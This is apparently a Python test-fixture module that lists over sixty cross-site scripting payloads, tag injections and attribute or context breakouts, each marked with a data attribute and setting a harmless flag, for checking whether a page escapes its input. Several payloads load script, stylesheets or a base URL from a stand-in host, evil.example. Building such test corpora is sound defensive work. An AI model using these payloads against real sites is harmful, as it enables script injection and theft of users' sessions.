"""Sixty and more ways in which text becomes a program where somebody puts it into a page unescaped.

Each leaves an element with MARK where it was taken for markup, and sets `RAN` where it ran.
"""

from __future__ import annotations

MARK, RAN = "data-xss", "ranXss"
_DO = f"window.{RAN}=1"
_TAGS = (
    "<script {m}>{d}</script>", "<ScRiPt {m}>{d}</sCrIpT>", "<script {m} src=//evil.example/a.js></script>",
    "<script {m} src='data:text/javascript,{d}'></script>", "<script {m} type=module>{d}</script>",
    "<img {m} src=x onerror={d}>", "<img {m} src=x onerror='{d}'>", "<img/{m}/src=x/onerror={d}>",
    "<IMG {m} SRC=x OnErRoR={d}>", "<svg {m} onload={d}>", "<svg {m}><script>{d}</script></svg>",
    "<svg {m}><animate onbegin={d} attributeName=x dur=1s></svg>", "<body {m} onload={d}>",
    "<iframe {m} src='javascript:{d}'></iframe>", "<iframe {m} srcdoc='<script>parent.{d}</script>'></iframe>",
    "<input {m} autofocus onfocus={d}>", "<details {m} open ontoggle={d}>x</details>", "<video {m} src=x onerror={d}>",
    "<audio {m} src=x onerror={d}>", "<video {m}><source onerror={d}></video>", "<marquee {m} onstart={d}>x</marquee>",
    "<object {m} data='javascript:{d}'></object>", "<embed {m} src='javascript:{d}'>",
    "<a {m} href='javascript:{d}'>x</a>", "<a {m} href='java\tscript:{d}'>x</a>", "<form {m} action='javascript:{d}'>",
    "<base {m} href=//evil.example/>", "<meta {m} http-equiv=refresh content='0;url=javascript:{d}'>",
    "<link {m} rel=stylesheet href=//evil.example/a.css>", "<style {m}>*{{background:url(//evil.example)}}</style>",
    "<div {m} style='animation-name:x' onanimationstart={d}>", "<math {m}><mtext><script>{d}</script></mtext></math>",
    "<template {m}><script>{d}</script></template>", "<noscript><p title='</noscript><img {m} src=x onerror={d}>'>",
    "<textarea {m} autofocus onfocus={d}>", "<select {m} autofocus onfocus={d}>", "<dialog {m} open onclose={d}>",
    "<button {m} popovertarget=x onclick={d}>x</button>", "<div {m} hx-get=/ hx-trigger=load hx-on::load={d}>x</div>",
    "<div {m} hx-on:htmx:load='{d}'>x</div>", "<div {m} hx-vals='js:{d}' hx-get=/health hx-trigger=load>x</div>",
)  # fmt: skip
_BREAKS = (
    "\"><img {m} src=x onerror={d}>", "'><img {m} src=x onerror={d}>", "\" autofocus {m} onfocus={d} x=\"",
    "' autofocus {m} onfocus={d} x='", "</title><script {m}>{d}</script>", "</textarea><script {m}>{d}</script>",
    "</script><script {m}>{d}</script>", "--><script {m}>{d}</script>", "]]><script {m}>{d}</script>",
    "</style><script {m}>{d}</script>", "`onerror={d} {m}", "<<script {m}>{d}//<</script>",
    "<img {m} src=`x`onerror={d}>",    "\u2028<img {m} src=x onerror={d}>", "<scr<script {m}>{d}</script>",
    "\0<script {m}>{d}</script>",
    "\ufeff<img {m} src=x onerror={d}>", "&lt;img {m} src=x onerror={d}&gt;<b {m}>", "{{{{ 7|safe }}}}<b {m}>",
    "{{% debug %}}<img {m} src=x onerror={d}>", "[x](javascript:{d})<b {m}>", "![x](x\" onerror=\"{d})<b {m}>",
)  # fmt: skip
PAYLOADS = tuple(text.format(m=MARK, d=_DO) for text in (*_TAGS, *_BREAKS))
